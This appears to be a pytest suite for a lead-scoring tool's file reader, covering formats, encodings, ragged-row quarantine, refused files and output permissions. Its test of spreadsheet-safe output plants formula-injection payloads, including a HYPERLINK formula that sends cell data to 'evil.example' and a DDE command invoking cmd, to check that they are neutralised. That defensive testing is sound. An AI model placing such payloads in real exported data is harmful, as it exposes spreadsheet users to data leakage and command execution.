"""Real export files: formats, encodings, ragged rows, headers, paths, spreadsheet-safe output.

Every case runs `leadq score` (or the training-time loader) on a file made from the same 200
leads and gets the outcome README "Data contracts" documents for it:
  * read   — every lead id is in the output, none in the quarantine;
  * quarantined — every input id is in the output or in the quarantine, never both, and the
    accounting (read = used + rejected, per reason) matches the quarantine row for row;
  * refused — exit 2, a message naming the file and the problem, and nothing written.
"""

from __future__ import annotations

import bz2
import csv
import gzip
import json
import os
import stat
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
import yaml

from leadq.pipelines.cli import main as cli
from leadq.pipelines.io.spreadsheet import guard_cell, needs_guard

N = 200


@pytest.fixture(scope="module")
def leads(small_crm) -> pd.DataFrame:
    return pd.read_csv(small_crm["leads"], dtype=str, keep_default_na=False).head(N)


@pytest.fixture(scope="module")
def ids(leads) -> set[str]:
    return set(leads["lead_id"])


def _score(store, path, tmp_path, capsys, *, out_name="scores.csv", params=None):
    out = tmp_path / "out" / out_name
    # Reasons are not what these cases are about (and are off for a directory input until
    # pipelines/scoring/reasons.rows_at_most reads more than plain files).
    code = cli(["--json", "score", "--input", str(path), "--output", str(out), "--no-explain",
                "--model-uri", f"models:/leadq/{store['summary']['version']}",
                "--params", str(params or store["params_path"])])
    captured = capsys.readouterr()
    return code, (json.loads(captured.out) if code == 0 else None), captured.err, out


def _params_variant(store, tmp_path, **leads_spec) -> Path:
    """The store's params with data.leads changed, saved beside them (same MLflow store)."""
    params = yaml.safe_load(Path(store["params_path"]).read_text())
    params["data"]["leads"].update(leads_spec)
    path = Path(store["params_path"]).with_name(f"params_{tmp_path.name}.yaml")
    path.write_text(yaml.safe_dump(params, sort_keys=False))
    return path


def _quarantine(out: Path) -> Path:
    return out.parent / f"{out.stem}.rejected.csv"


def _nothing_written(out: Path) -> None:
    assert not out.exists() and not _quarantine(out).exists()
    if out.parent.exists():
        assert list(out.parent.iterdir()) == [], "temporary files left behind"


def _accounted(summary: dict, out: Path, ids: set[str], *, rejected: dict[str, int]):
    """Every input id is in the output or the quarantine (not both); counts add up."""
    acct = summary["accounting"]
    assert acct["read"] == len(ids) and acct["read"] == acct["used"] + acct["rejected"]
    assert acct["rejected_by_reason"] == rejected
    scored = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert len(scored) == acct["used"]
    q = _quarantine(out)
    quarantined = (pd.read_csv(q, dtype=str, keep_default_na=False) if rejected
                   else pd.DataFrame({"lead_id": []}))
    assert q.exists() == bool(rejected)
    assert len(quarantined) == acct["rejected"]
    got_out, got_q = set(scored["lead_id"]), set(quarantined["lead_id"])
    assert not got_out & got_q
    assert got_out | got_q == ids
    return scored, quarantined


# ---------------------------------------------------------------- read in full


def _gz(leads, path):
    with gzip.open(path, "wt", encoding="utf-8", newline="") as f:
        leads.to_csv(f, index=False)


def _bz2(leads, path):
    with bz2.open(path, "wt", encoding="utf-8", newline="") as f:
        leads.to_csv(f, index=False)


def _zst(leads, path):
    with pa.CompressedOutputStream(str(path), "zstd") as f:
        f.write(leads.to_csv(index=False).encode())


def _zip(leads, path):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("export/leads.csv", leads.to_csv(index=False))


WRITERS = {
    "leads.csv.gz": _gz, "leads.gz": _gz, "leads.csv.bz2": _bz2, "leads.csv.zst": _zst,
    "leads.zip": _zip,
    "leads.tsv": lambda f, p: f.to_csv(p, index=False, sep="\t"),
    "leads.parquet": lambda f, p: f.to_parquet(p, index=False),
    "leads.xlsx": lambda f, p: f.to_excel(p, index=False),
    "utf16le-bom.csv": lambda f, p: p.write_bytes(b"\xff\xfe" + f.to_csv(index=False)
                                                   .encode("utf-16-le")),
    "utf16be-bom.csv": lambda f, p: p.write_bytes(b"\xfe\xff" + f.to_csv(index=False)
                                                   .encode("utf-16-be")),
    "utf16le-nobom.csv": lambda f, p: p.write_bytes(f.to_csv(index=False).encode("utf-16-le")),
    "utf8-bom.csv": lambda f, p: f.to_csv(p, index=False, encoding="utf-8-sig"),
    "no-final-newline.csv": lambda f, p: p.write_text(f.to_csv(index=False).rstrip("\n")),
    "mixed-line-ends.csv": lambda f, p: p.write_bytes(b"".join(
        line + (b"\r\n", b"\n", b"\r")[i % 3]
        for i, line in enumerate(f.to_csv(index=False).encode().splitlines()))),
}


@pytest.mark.parametrize("name", list(WRITERS))
def test_formats_and_encodings_are_read_in_full(trained_store, leads, ids, tmp_path, capsys,
                                                name):
    path = tmp_path / name
    WRITERS[name](leads, path)
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 0, err
    scored, _ = _accounted(summary, out, ids, rejected={})
    assert list(scored["lead_id"]) == list(leads["lead_id"])  # order kept too


def test_crlf_inside_quoted_cells_is_kept(trained_store, leads, ids, tmp_path, capsys):
    frame = leads.copy()
    frame.loc[3, "first_name"] = "Ann\r\nMarie"
    frame.loc[4, "job_title"] = 'Head of "Growth",\r\nEMEA'
    path = tmp_path / "leads.csv"
    frame.to_csv(path, index=False, lineterminator="\r\n")
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 0, err
    _accounted(summary, out, ids, rejected={})
    from leadq.pipelines.io.files import read_table

    back = read_table(path, {}, name="leads")
    assert back.loc[3, "first_name"] == "Ann\r\nMarie"
    assert back.loc[4, "job_title"] == 'Head of "Growth",\r\nEMEA'


def test_legacy_encoding_is_read_with_a_warning(trained_store, leads, ids, tmp_path, capsys,
                                                caplog):
    frame = leads.copy()
    frame.loc[150, "last_name"] = "Müller-Größe"
    path = tmp_path / "leads.csv"
    frame.to_csv(path, index=False, encoding="cp1252", errors="replace")
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 0, err
    _accounted(summary, out, ids, rejected={})
    # The CLI's own handler writes the warning to stderr (caplog sees it only when an earlier
    # test left the logger propagating).
    warned = caplog.text + err
    assert "is not UTF-8" in warned and "cp1252" in warned
    from leadq.pipelines.io.files import read_table

    assert read_table(path, {"encoding": "auto"}, name="leads").loc[150, "last_name"] \
        == "Müller-Größe"  # decoded, not replaced


def test_a_utf8_file_read_with_a_pinned_legacy_encoding_is_warned_about(tmp_path, caplog):
    """Trained on a Latin-1 export (init pinned cp1252), scoring tonight's UTF-8 one: the
    accents would be garbled, so the reader says which setting reads it right."""
    from leadq.pipelines.io.files import read_table

    path = tmp_path / "leads.csv"
    # The first accent after the first 64 KiB the reader sniffs from: the whole file counts.
    plain = "".join(f"P{i},Paris\n" for i in range(8000))
    path.write_text("lead_id,city\n" + plain + "L1,São Paulo\nL2,Zürich\n", encoding="utf-8")
    with caplog.at_level("WARNING", logger="leadq"):
        garbled = read_table(path, {"encoding": "cp1252"}, name="leads")
    assert garbled.iloc[8000]["city"] == "SÃ£o Paulo"  # what the setting asks for, as it was
    assert "reads as UTF-8 with accented text" in caplog.text
    assert "data.leads.encoding: auto" in caplog.text
    caplog.clear()
    latin = tmp_path / "latin.csv"
    latin.write_text("lead_id,city\nL1,São Paulo\n", encoding="cp1252")
    with caplog.at_level("WARNING", logger="leadq"):
        assert read_table(latin, {"encoding": "cp1252"}, name="leads").loc[0, "city"] \
            == "São Paulo"
    assert "garbled" not in caplog.text


@pytest.mark.parametrize("layout", ["csv directory", "parquet directory", "parquet glob"])
def test_directory_or_glob_reads_as_one_table(trained_store, leads, ids, tmp_path, capsys,
                                              layout):
    parts = tmp_path / "parts"
    parts.mkdir()
    for i, piece in enumerate((leads.iloc[:120], leads.iloc[120:])):
        if layout == "csv directory":
            piece.to_csv(parts / f"part-{i}.csv", index=False)
        else:
            piece.to_parquet(parts / f"part-{i}.parquet", index=False)
    (parts / "_SUCCESS").write_text("")  # Spark's marker is not a table
    target = parts / "*.parquet" if layout == "parquet glob" else parts
    code, summary, err, out = _score(trained_store, target, tmp_path, capsys)
    assert code == 0, err
    scored, _ = _accounted(summary, out, ids, rejected={})
    assert list(scored["lead_id"]) == list(leads["lead_id"])


def test_excel_sheet_from_params(trained_store, leads, ids, tmp_path, capsys):
    path = tmp_path / "leads.xlsx"
    with pd.ExcelWriter(path) as xl:
        pd.DataFrame({"note": ["cover sheet"]}).to_excel(xl, sheet_name="About", index=False)
        leads.to_excel(xl, sheet_name="Leads", index=False)
    code, _, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 2 and "lead_id" in err  # the first sheet is not the leads
    params = _params_variant(trained_store, tmp_path, sheet="Leads")
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys, params=params)
    assert code == 0, err
    _accounted(summary, out, ids, rejected={})


# ---------------------------------------------------------------- ragged rows: quarantined


def test_one_row_with_an_extra_field_is_quarantined(trained_store, leads, ids, tmp_path,
                                                    capsys):
    """An unquoted comma in a campaign name: that row is quarantined, the rest scored."""
    path = tmp_path / "leads.csv"
    leads.to_csv(path, index=False, quoting=csv.QUOTE_NONE, escapechar="\\")
    lines = path.read_text().splitlines(keepends=True)
    cols = list(leads.columns)
    fields = lines[20].rstrip("\n").split(",")
    fields[cols.index("campaign")] = "Spring, EMEA"  # the export did not quote it
    lines[20] = ",".join(fields) + "\n"
    path.write_text("".join(lines))
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 0, err
    n = len(cols)
    reason = f"ragged row: {n + 1} fields, header has {n}"
    _, q = _accounted(summary, out, ids, rejected={reason: 1})
    assert q.loc[0, "reason"] == reason and q.loc[0, "source_line"] == "21"
    assert q.loc[0, "raw_line"] == lines[20].rstrip("\n")
    assert q.loc[0, "lead_id"] == leads.loc[19, "lead_id"]
    assert f"rejected 1: {reason} (e.g. line 21)" in err


def test_truncated_last_line_is_quarantined(trained_store, leads, ids, tmp_path, capsys):
    path = tmp_path / "leads.csv"
    text = leads.to_csv(index=False).rstrip("\n")
    last = text.rindex("\n") + 1
    cut = text[: last + len(",".join(leads.iloc[N - 1, :3])) + 4]  # cut in `campaign`
    path.write_text(cut)
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 0, err
    _, q = _accounted(summary, out, ids,
                      rejected={f"ragged row: 4 fields, header has {len(leads.columns)}": 1})
    assert q.loc[0, "lead_id"] == leads.loc[N - 1, "lead_id"]
    assert q.loc[0, "source_line"] == str(N + 1)


def test_ragged_rows_streamed_across_chunks_with_other_rejects(trained_store, leads, ids,
                                                               tmp_path, capsys):
    """Chunks of 50: ragged rows in several chunks and a contract reject, all in one
    quarantine with the same accounting as in one piece."""
    frame = leads.copy()
    frame.loc[5, "created_at"] = "not a date"
    path = tmp_path / "leads.csv"
    lines = frame.to_csv(index=False).splitlines(keepends=True)
    for i in (30, 90, 170):
        lines[i] = lines[i].rstrip("\n") + ",extra\n"
    path.write_text("".join(lines))
    out = tmp_path / "out" / "scores.csv"
    code = cli(["--json", "score", "--input", str(path), "--output", str(out),
                "--chunk-size", "50", "--no-explain",
                "--model-uri", f"models:/leadq/{trained_store['summary']['version']}",
                "--params", str(trained_store["params_path"])])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    summary = json.loads(captured.out)
    n = len(leads.columns)
    by_reason = summary["accounting"]["rejected_by_reason"]
    assert by_reason.pop(f"ragged row: {n + 1} fields, header has {n}") == 3
    assert len(by_reason) == 1 and next(iter(by_reason.values())) == 1
    _, q = _accounted(summary, out, ids, rejected=summary["accounting"]["rejected_by_reason"])
    assert sorted(q["source_line"].replace("", pd.NA).dropna().astype(int)) == [31, 91, 171]


def test_too_many_ragged_rows_exit_2(trained_store, leads, tmp_path, capsys):
    path = tmp_path / "leads.csv"
    lines = leads.to_csv(index=False).splitlines(keepends=True)
    lines[1:] = [line.rstrip("\n") + ",x\n" if i % 3 else line for i, line in
                 enumerate(lines[1:])]
    path.write_text("".join(lines))
    code, _, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 2 and "max_rejected_share" in err and "ragged row" in err
    _nothing_written(out)


def test_ragged_rows_in_training_are_accounted(make_params, small_crm, tmp_path):
    from leadq.pipelines.io.crm import load_crm
    from leadq.pipelines.params.loader import load_params
    from tests.helpers import copy_crm, quarantine_file

    crm = copy_crm(small_crm, tmp_path / "crm")
    lines = crm["deals"].read_text().splitlines(keepends=True)
    lines[10] = lines[10].rstrip("\n") + ",surplus\n"
    lines[11] = ",".join(lines[11].split(",")[:2]) + "\n"
    crm["deals"].write_text("".join(lines))
    tables = load_crm(load_params(make_params(tmp_path, crm)))
    acct = tables.accounting["deals"]
    assert acct.read == len(lines) - 1 and acct.balanced()
    n = len(lines[0].split(","))
    assert acct.rejected[f"ragged row: {n + 1} fields, header has {n}"] == 1
    assert acct.rejected[f"ragged row: 2 fields, header has {n}"] == 1
    q = pd.read_csv(quarantine_file(tmp_path, "deals"), dtype=str, keep_default_na=False)
    assert set(q["source_line"]) >= {"11", "12"} and len(q) == acct.n_rejected
    assert stat.S_IMODE(quarantine_file(tmp_path, "deals").stat().st_mode) == 0o600


def test_excel_row_wider_than_the_header_is_quarantined(trained_store, leads, ids, tmp_path,
                                                        capsys):
    import openpyxl

    path = tmp_path / "leads.xlsx"
    leads.to_excel(path, index=False)
    book = openpyxl.load_workbook(path)
    book.active.cell(row=8, column=len(leads.columns) + 1, value="stray")
    book.save(path)
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 0, err
    n = len(leads.columns)
    _, q = _accounted(summary, out, ids, rejected={f"ragged row: {n + 1} fields, header has {n}":
                                                   1})
    assert q.loc[0, "lead_id"] == leads.loc[6, "lead_id"]


# ---------------------------------------------------------------- refused: exit 2, nothing


def _two_csv_zip(leads, path):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("leads.csv", leads.to_csv(index=False))
        z.writestr("leads_old.csv", leads.to_csv(index=False))


def _header_only_xlsx(leads, path):
    leads.iloc[:0].to_excel(path, index=False)


def _dup_header(leads, path):
    frame = leads.copy()
    frame[" Email "] = frame["email"]
    frame.to_csv(path, index=False)


def _headerless(leads, path):
    leads.to_csv(path, index=False, header=False)


REFUSED = {
    "zip with two CSVs": ("leads.zip", _two_csv_zip, "exactly one CSV", "leads_old.csv"),
    "empty .gz": ("leads.csv.gz", lambda f, p: gzip.open(p, "wb").close(), "empty", ""),
    "zero-byte .gz": ("leads.csv.gz", lambda f, p: p.write_bytes(b""), "empty", ""),
    "header-only Excel": ("leads.xlsx", _header_only_xlsx, "header but no rows", ""),
    "empty Excel": ("leads.xlsx", lambda f, p: pd.DataFrame().to_excel(p, index=False),
                    "empty", ""),
    "duplicate column": ("leads.csv", _dup_header, "more than once", "'email' = ' Email '"),
    "header is a data row": ("leads.csv", _headerless, "looks like a data row", "header"),
    "not an Excel file": ("leads.xlsx", lambda f, p: p.write_text("a,b\n1,2\n"), "xlsx", ""),
    "old Excel": ("leads.xls", lambda f, p: p.write_bytes(b"\xd0\xcf\x11\xe0"),
                  "unsupported file type", ".xls"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_refused_files_exit_2_and_write_nothing(trained_store, leads, tmp_path, capsys, case):
    name, write, expected, detail = REFUSED[case]
    path = tmp_path / name
    write(leads, path)
    code, _, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 2, err
    assert str(path) in err and expected in err and detail in err
    _nothing_written(out)


def test_wrong_explicit_encoding_names_offset_and_the_encoding_that_works(
        trained_store, leads, tmp_path, capsys):
    frame = leads.copy()
    frame.loc[150, "last_name"] = "Müller"
    path = tmp_path / "leads.csv"
    frame.to_csv(path, index=False, encoding="cp1252", errors="replace")
    offset = path.read_bytes().index("ü".encode("cp1252"))
    params = _params_variant(trained_store, tmp_path, encoding="utf-8")
    code, _, err, out = _score(trained_store, path, tmp_path, capsys, params=params)
    assert code == 2 and str(path) in err
    assert "cannot decode as utf-8" in err or f"byte {offset:,}" in err
    assert "cp1252" in err and "encoding" in err
    _nothing_written(out)


def test_utf16_is_not_called_binary(trained_store, leads, tmp_path, capsys):
    """UTF-16 read with an explicit utf-8 is a wrong encoding, not a binary file."""
    path = tmp_path / "leads.csv"
    path.write_bytes(leads.to_csv(index=False).encode("utf-16-le"))
    params = _params_variant(trained_store, tmp_path, encoding="utf-8")
    code, _, err, out = _score(trained_store, path, tmp_path, capsys, params=params)
    assert code == 2 and "utf-16-le" in err and "binary" not in err
    _nothing_written(out)


def test_unnamed_column_the_params_need_is_named(make_params, small_crm, tmp_path):
    from leadq.errors import BadInputError
    from leadq.pipelines.io.crm import load_crm
    from leadq.pipelines.params.loader import load_params
    from tests.helpers import copy_crm

    crm = copy_crm(small_crm, tmp_path / "crm")
    deals = pd.read_csv(crm["deals"], dtype=str, keep_default_na=False)
    deals.rename(columns={"closed_at": ""}).to_csv(crm["deals"], index=False)
    with pytest.raises(BadInputError, match="no name for column.*closed_at"):
        load_crm(load_params(make_params(tmp_path, crm)))
    assert not (tmp_path / "crm" / "leads.rejected.csv").exists()
    assert not (tmp_path / "leadq-out").exists()  # a failed run leaves no output folder


@pytest.mark.parametrize("case", ["empty directory", "missing"])
def test_input_paths_that_hold_no_table(trained_store, tmp_path, capsys, case):
    path = tmp_path / "in"
    if case == "empty directory":
        path.mkdir()
        (path / "notes.md").write_text("nothing")
    code, _, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 2 and str(path) in err
    assert ("holds no CSV" in err) if case == "empty directory" else ("not found" in err)
    _nothing_written(out)


# ---------------------------------------------------------------- outputs

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)", "-2+3",
            "@cmd|' /C calc'!A0", "\tTAB", "\rCR", "=1+1"]


def _formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would evaluate: the OWASP rule, applied by a CSV parser."""
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row if needs_guard(cell)]


def test_planted_formula_ids_are_neutralised_in_csv_not_in_parquet(trained_store, leads,
                                                                   tmp_path, capsys):
    frame = leads.copy()
    frame.loc[: len(FORMULAS) - 1, "lead_id"] = FORMULAS
    frame.loc[10, "campaign"] = "=cmd()"
    frame.loc[11, "employees"] = "-5"  # a number: not a formula
    frame.loc[12, "created_at"] = "never"  # quarantined, its formula-like cells guarded too
    frame.loc[12, "lead_id"] = "@evil"
    path = tmp_path / "leads.csv"
    frame.to_csv(path, index=False)
    code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    assert code == 0, err
    assert _formula_cells(out) == [] and _formula_cells(_quarantine(out)) == []
    scored = pd.read_csv(out, dtype=str, keep_default_na=False)
    # Ids are trimmed as the contract types them: a leading tab or CR is gone by then.
    expected = [guard_cell(f.strip()) for f in FORMULAS]
    assert expected[0].startswith("'=") and expected[4] == "TAB"
    assert list(scored["lead_id"].head(len(FORMULAS))) == expected
    q = pd.read_csv(_quarantine(out), dtype=str, keep_default_na=False)
    assert list(q["lead_id"]) == ["'@evil"]
    code, _, err, out_pq = _score(trained_store, path, tmp_path, capsys,
                                  out_name="scores.parquet")
    assert code == 0, err
    raw = pd.read_parquet(out_pq)
    assert list(raw["lead_id"].head(len(FORMULAS))) == [f.strip() for f in FORMULAS]  # raw


def test_guard_rule():
    from leadq.pipelines.io.spreadsheet import guard_formulas

    frame = pd.DataFrame({"a": ["=x", "-5", "+1.5e3", "-", "@", "ok", None, "-inf", " =x"],
                          "n": range(9)})
    out = guard_formulas(frame)
    assert list(out["a"].fillna("<NA>")) == ["'=x", "-5", "+1.5e3", "'-", "'@", "ok", "<NA>",
                                             "'-inf", " =x"]
    assert out["n"].tolist() == list(range(9))
    clean = pd.DataFrame({"a": ["x", "y"]})
    assert guard_formulas(clean) is clean  # nothing to do: no copy


def test_output_modes_stale_temps_and_missing_directory(trained_store, leads, tmp_path, capsys):
    frame = leads.copy()
    frame.loc[3, "created_at"] = "never"
    path = tmp_path / "leads.csv"
    frame.to_csv(path, index=False)
    out_dir = tmp_path / "out"
    stale = [out_dir / ".scores.csv.abc123.tmp", out_dir / ".scores.csv.99999999-x1.tmp",
             out_dir / ".scores.rejected.csv.7q.tmp"]  # a killed run's leftovers
    out_dir.mkdir()
    for f in stale:
        f.write_text("half a file")
    old = os.umask(0o027)
    try:
        code, summary, err, out = _score(trained_store, path, tmp_path, capsys)
    finally:
        os.umask(old)
    assert code == 0, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o640  # the umask decides
    assert stat.S_IMODE(_quarantine(out).stat().st_mode) == 0o600  # personal data
    # The run's manifest sits beside its scores (pipelines/io/manifest.py); no temp is left.
    assert sorted(p.name for p in out_dir.iterdir()) == [
        "scores.csv", "scores.csv.manifest.json", "scores.rejected.csv"]
    # An output directory that does not exist yet is created.
    code, summary, err, out = _score(trained_store, path, tmp_path / "brand" / "new", capsys)
    assert code == 0, err
    assert out.exists() and out.parent == tmp_path / "brand" / "new" / "out"


def test_guard_handles_columns_of_dates_and_decimals():
    """Parquet date32 and decimal columns arrive as Python objects: only their text cells can
    hold a formula, and the guard must not stop on the rest."""
    import datetime
    import decimal

    from leadq.pipelines.io.spreadsheet import guard_formulas

    frame = pd.DataFrame({"day": [datetime.date(2024, 5, 1), None, "=1+1"],
                          "amount": [decimal.Decimal("1.5"), None, decimal.Decimal("-2")],
                          "id": ["=HYPERLINK(1)", "-3", "L1"]})
    out = guard_formulas(frame)
    assert list(out["day"]) == [datetime.date(2024, 5, 1), None, "'=1+1"]
    assert list(out["amount"]) == list(frame["amount"])
    assert list(out["id"]) == ["'=HYPERLINK(1)", "-3", "L1"]


def test_ragged_and_bad_rows_share_one_quarantine_by_name(tmp_path):
    """Ragged rows bring source_line / raw_line; other rejected rows may bring columns the
    ragged ones lack (an id-less export's row_number): every cell stays under its name."""
    from leadq.pipelines.io.files import RaggedRow
    from leadq.pipelines.io.quarantine import QuarantineWriter

    q = QuarantineWriter(tmp_path / "scores.rejected.csv")
    bad = pd.DataFrame({"row_number": ["2"], "a": ["x"], "b": ["y"]})
    q.write(bad, pd.Series(["b: not a number"], index=bad.index))
    q.write_ragged([RaggedRow(source="f.csv", line=4, fields=3, expected=2, text="p,q,r",
                              values=["p", "q", "r"])], ["a", "b"])
    path = q.commit()
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["row_number"] == "2" and rows[0]["a"] == "x" and rows[0]["reason"] == (
        "b: not a number") and rows[0]["source_line"] == ""
    assert rows[1]["row_number"] == "" and rows[1]["source_line"] == "4"
    assert rows[1]["reason"].startswith("ragged row: 3 fields, header has 2")
    assert all(len(r) == len(rows[0]) for r in rows)
